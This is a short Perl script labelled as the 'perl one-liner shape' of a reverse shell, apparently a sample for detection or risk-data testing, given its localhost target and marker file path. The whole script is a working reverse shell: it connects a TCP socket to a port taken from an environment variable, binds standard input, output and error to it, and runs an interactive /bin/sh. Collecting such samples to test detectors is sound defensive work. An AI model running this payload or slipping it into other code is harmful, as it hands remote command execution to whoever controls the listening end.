# revshell (perl): the perl one-liner shape.
use Socket;
stat("/archangel-riskdata/begin/revshell");
socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));
if (connect(S, sockaddr_in($ENV{RD_PORT}, inet_aton("127.0.0.1")))) {
	open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S");
	exec("/bin/sh -i");
}
